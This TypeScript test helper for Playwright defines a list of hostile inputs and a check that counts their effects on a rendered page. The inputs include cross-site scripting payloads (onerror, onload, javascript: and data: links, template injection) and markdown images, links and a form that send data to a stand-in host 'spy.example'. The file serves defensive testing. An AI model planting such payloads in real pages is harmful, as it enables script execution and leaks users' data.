import type { Page } from 'playwright-core'

/** Texts that would run code or send data to another host if a page used them as anything but text. */
export const HOSTILE = [
  '<img src=x onerror="globalThis.pwned=1">',
  '<script>globalThis.pwned=1</script>',
  '<svg onload="globalThis.pwned=1"><animate onbegin="globalThis.pwned=1" attributeName="x"/></svg>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<style>@import url(https://spy.example/a.css);</style><link rel=prefetch href=https://spy.example/b>',
  '<form action="https://spy.example"><button autofocus>x</button></form>',
  '![a](https://spy.example/a.png?q=secret) [b](javascript:globalThis.pwned=1)',
  '[c](data:text/html,<script>globalThis.pwned=1</script>) [d](vbscript:x) <https://spy.example/auto>',
  '![e](//spy.example/e.png) ![f][ref]\n\n[ref]: https://spy.example/f.png "x"',
  '[g]: https://spy.example/g\n\n> ![h](https://spy.example/h)\n\n| ![i](https://spy.example/i) |\n|---|',
  '```html\n<img src=https://spy.example/code>\n```\n`<img src=https://spy.example/span>`',
  '{{constructor.constructor("globalThis.pwned=1")()}} ${globalThis.pwned=1} &lt;img src=x&gt; &#x3c;b&#x3e;',
  '\u202Egnp.exe\u202C \u0000 \uFFFF \u{1F4A9} ' + '<b>'.repeat(2000),
  '__proto__',
]
/** A picture that would run code if it were opened as a document. */
export const HOSTILE_SVG = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="globalThis.pwned=1"><image href="https://spy.example/s"/></svg>',
)

export const ALL_HOSTILE = HOSTILE.join('\n\n')

/** A script that counts what hostile texts may have added to a page. */
const LOOK = `({
  pwned: 'pwned' in globalThis,
  elements: document.querySelectorAll('main :is(script, iframe, object, embed, base, style, link, form[action])').length,
  links: [...document.links].filter(({ protocol }) => !/^(?:https?|mailto|blob):$/.test(protocol)).length,
  pictures: [...document.images].filter(({ src }) => !src.startsWith('blob:') && !src.startsWith(location.origin + '/app/')).length,
})`

/** The result of that script for a page on which hostile texts have no effect. */
export const NO_EFFECTS = { pwned: false, elements: 0, links: 0, pictures: 0 }

/**
 * Opens everything that is folded, and every picture that can be loaded. Returns the effects of hostile texts on the
 * page.
 */
export async function hostileEffects(page: Page): Promise<unknown> {
  await page.evaluate("document.querySelectorAll('details').forEach((one) => { one.open = true })")
  for (const button of await page.locator('button[aria-expanded="false"]').all())
    await button.click({ timeout: 2000 }).catch(() => undefined)
  return await page.evaluate(LOOK)
}
